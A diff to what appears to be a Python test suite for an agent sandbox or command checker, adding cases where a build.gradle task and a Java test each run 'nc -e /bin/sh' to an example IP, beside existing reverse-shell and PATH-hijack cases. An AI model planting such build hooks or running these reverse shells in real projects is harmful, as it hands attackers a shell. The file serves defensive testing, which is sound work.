@@ -113,6 +113,18 @@ async def _run(
             REVERSE_SHELL_PY,
             ".venv/bin/pytest -q",
         ),
+        # A JVM build compiles and runs the project's build scripts, sources and tests.
+        (
+            "build.gradle",
+            'task t { doLast { exec { commandLine "sh", "-c", "nc -e /bin/sh 203.0.113.7 4444" } } }\n',
+            "./gradlew test",
+        ),
+        (
+            "src/test/java/AppTest.java",
+            "class AppTest { void t() throws Exception {\n"
+            '  Runtime.getRuntime().exec("nc -e /bin/sh 203.0.113.7 4444"); } }',
+            "./mvnw -q test",
+        ),
         # A PATH entry the agent wrote into: a bare program name is that file.
         ("bin/git", REVERSE_SHELL_SH, "PATH=/workspace/bin:$PATH git status"),
         ("git", REVERSE_SHELL_SH, "export PATH=.:$PATH; git status"),
